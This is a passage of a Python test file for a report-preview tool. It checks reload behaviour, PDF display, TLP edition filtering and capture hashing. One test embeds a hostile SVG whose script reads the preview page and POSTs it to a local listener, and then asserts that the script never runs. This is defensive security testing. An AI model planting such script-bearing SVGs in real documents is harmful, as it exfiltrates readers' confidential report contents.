    browser.send(evaluate=f"window.scrollTo(0, {target})")
    at = browser.wait_for(f"Math.abs(scrollY - {target}) <= 1 && scrollY")

    edit(brief, r"^title: .*$", 'title: "Minsk and Tehran: A Scrolled Brief"')
    browser.wait_for(f"{HEADING} === 'Minsk and Tehran: A Scrolled Brief'")
    browser.wait_for(f"document.readyState === 'complete' && scrollY === {at}")
    assert browser.send(problems=True) == []
    assert preview.interrupt() == 0


class Listener:
    """A server on 127.0.0.1 that records every request it gets: where a script would send
    what it read."""

    def __init__(self) -> None:
        self.requests: list[bytes] = []
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.socket.accept()
                with connection:
                    connection.settimeout(DEADLINE)
                    self.requests.append(connection.recv(1 << 20))
                    connection.sendall(
                        b"HTTP/1.0 204 No Content\r\nAccess-Control-Allow-Origin: *\r\n\r\n"
                    )

    def close(self) -> None:
        self.socket.close()


#: An SVG figure that, run as a document of the preview's origin, reads the report and sends
#: it away. Its requests are synchronous, so they are over before its document has loaded.
HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">
<rect width="40" height="20" fill="teal"/>
<script><![CDATA[
document.documentElement.setAttribute("data-ran", "yes");
let report = "";
try {
  const page = new XMLHttpRequest();
  page.open("GET", "/", false);
  page.send();
  report = page.responseText;
} catch (error) {
  report = String(error);
}
const out = new XMLHttpRequest();
out.open("POST", "LISTENER", false);
out.send(report);
]]></script>
</svg>
"""


def test_an_svg_opened_as_a_document_runs_no_script_and_still_shows_in_the_page(
    browser: Browser, folder: Path
) -> None:
    # "Open image in new tab" on a figure: the SVG is then a document at the preview's URL.
    listener = Listener()
    (folder / "figure.svg").write_text(HOSTILE_SVG.replace("LISTENER", listener.url), "utf-8")
    edit(
        folder / "minimal.yaml", r"^geopolitical_context: \|\n", r"\g<0>  ![figure](figure.svg)\n\n"
    )
    # The Markdown figure is inlined (sanitised); the template's CSS loads the file itself,
    # so the preview serves it, and a reader can open it in a tab of its own.
    template = folder / "tpl"
    shutil.copytree(ROOT / "report_templates" / "series", template)
    with (template / "report.css").open("a", encoding="utf-8") as css:
        css.write('.unused { background: url("figure.svg") }\n')
    session = PreviewSession(folder / "minimal.yaml", template=str(template))
    assert session.rebuild().ok
    assert "/figure.svg" in session.snapshot().assets
    try:
        with PreviewServer(session) as server:
            browser.send(goto=server.url + "figure.svg")
            assert browser.send(evaluate="document.documentElement.localName") == "svg"
            assert (
                browser.send(evaluate="document.documentElement.getAttribute('data-ran')") is None
            )
            assert listener.requests == []

            browser.send(goto=server.url)
            shown = "document.querySelector('img[src^=\"data:image/svg+xml\"]')"
            assert browser.wait_for(f"{shown}.complete && {shown}.naturalWidth") == 40
            assert browser.send(problems=True) == []
    finally:
        listener.close()
    assert listener.requests == []


def answer(handler: BaseHTTPRequestHandler, page: bytes) -> None:
    """Send ``page`` for "/", and no content for anything else (the favicon)."""
    body = page if handler.path == "/" else b""
    handler.send_response(200 if body else 204)
    handler.send_header("Content-Type", "text/html")
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)


class HeldChannel(ThreadingHTTPServer):
    """A page whose EventSource request is held open, as a preview's reload channel is; the
    ``closed`` event is set when the browser drops that request."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _HeldChannelHandler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}/"
        self.connected = threading.Event()
        self.closed = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _HeldChannelHandler(BaseHTTPRequestHandler):
    server: HeldChannel

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        if self.path == "/events":
            self.server.connected.set()
            self.rfile.read(1)  # no answer: only the browser ends this request
            self.server.closed.set()
            return
        answer(
            self, b"<!DOCTYPE html><title>held</title><script>new EventSource('/events')</script>"
        )


class NextPage(ThreadingHTTPServer):
    """A page that answers only once ``held`` has been dropped (or after DEADLINE), and says
    in its title which it was."""

    daemon_threads = True

    def __init__(self, held: HeldChannel) -> None:
        super().__init__(("127.0.0.1", 0), _NextPageHandler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}/"
        self.held = held
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _NextPageHandler(BaseHTTPRequestHandler):
    server: NextPage

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        dropped = self.server.held.closed.wait(DEADLINE)
        title = "the last page was closed first" if dropped else "the last page was still open"
        answer(self, f"<!DOCTYPE html><title>{title}</title>".encode())


def test_a_page_is_closed_before_the_next_one_is_opened(browser: Browser) -> None:
    # A page left on a stopped preview keeps reconnecting to it, and each refused connection
    # is a console error. Were it still open while the next test's page loads, those errors
    # would count as that page's problems (the flake of test_the_scroll_position_survives_a_
    # reload, with net::ERR_CONNECTION_REFUSED in its console).
    held = HeldChannel()
    following = NextPage(held)
    try:
        browser.send(goto=held.url)
        assert held.connected.wait(DEADLINE)
        browser.send(goto=following.url)
        assert browser.send(evaluate="document.title") == "the last page was closed first"
        assert browser.send(problems=True) == []
    finally:
        for server in (held, following):
            server.shutdown()
            server.server_close()


def test_the_pdf_is_shown_in_the_browser_s_viewer_under_its_policy(
    browser: Browser, folder: Path, previews: list[PreviewProcess]
) -> None:
    # In a subprocess: a session rendering PDFs here would fork its render child from this
    # process, and the child would hold the browser driver's stdin open.
    preview = PreviewProcess(str(folder / "minimal.yaml"), "--no-open", "--pdf")
    previews.append(preview)
    pdf = request(preview.port, "/__osintkit/report.pdf")
    assert pdf.headers["content-type"] == "application/pdf"
    assert_inert(pdf)
    for url in (preview.url, preview.url + "__osintkit/report.pdf"):
        browser.send(goto=url)
        # Chromium's viewer is an extension page in a frame of its own, there only if the PDF
        # was let into the frame and shown: framed by the preview's page, or in a tab.
        frames = browser.send(waitForFrame=PDF_VIEWER, timeout=DEADLINE * 1000)
        assert frames[0] == url
        assert browser.send(problems=True) == []
    assert preview.interrupt() == 0


def test_the_preview_of_an_edition_shows_that_edition_and_reloads(tmp_path: Path) -> None:
    fixtures = Path(__file__).resolve().parent / "fixtures"
    folder = tmp_path / "briefs"
    shutil.copytree(fixtures / "editions", folder)
    shutil.copy(Path(__file__).resolve().parents[1] / "briefs" / "series.yaml", folder)
    brief = folder / "editions.yaml"
    session = PreviewSession(brief, edition="CLEAR")
    assert session.rebuild().ok
    page = session.snapshot().html or ""
    assert "TLP:CLEAR" in page and "Freight across the Caspian" in page
    assert "Astrakhan terminal manager" not in page and "Informant roster" not in page
    edit(brief, "third year running", "fourth year running")
    assert session.rebuild([brief]).ok
    assert "fourth year running" in (session.snapshot().html or "")
    full = PreviewSession(brief)
    assert full.rebuild().ok
    assert "Astrakhan terminal manager" in (full.snapshot().html or "")


def test_preview_takes_an_edition_of_the_levels_render_takes() -> None:
    result = CliRunner().invoke(app, ["preview", "brief.yaml", "--edition", "PURPLE"])
    assert result.exit_code == 2
    assert "must be one of CLEAR, GREEN, AMBER, AMBER+STRICT, RED" in result.output


def test_a_capture_is_hashed_once_while_it_is_unchanged_not_on_every_save(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hashlib

    import osintkit.digests

    capture = folder / "page.txt"
    capture.write_bytes(b"the ministry's page")
    digest = hashlib.sha256(b"the ministry's page").hexdigest()
    brief = folder / "minimal.yaml"
    item = f"{{file: page.txt, sha256: {digest}, captured: 2025-01-18T09:00:00Z}}"
    entry = f"    captures:\n      - {item}\n"
    edit(brief, r"^    accessed: 2025-01-18\n", "    accessed: 2025-01-18\n" + entry)
    now = osintkit.digests._now_ns  # a minute later: the capture has settled
    monkeypatch.setattr(osintkit.digests, "_now_ns", lambda: now() + 60 * 10**9)
    hashed: list[int] = []
    stream = osintkit.digests.stream_sha256
    monkeypatch.setattr(
        osintkit.digests, "stream_sha256", lambda fd: hashed.append(fd) or stream(fd)
    )
    session = PreviewSession(brief)
    assert session.rebuild().ok
    edit(brief, r"Test Brief", "Test Brief, saved again")
    assert session.rebuild([brief]).ok
    assert len(hashed) == 1
    capture.write_bytes(b"the ministry's page, edited")
    build = session.rebuild([brief])
    assert not build.ok and "was the capture changed?" in build.errors[0]
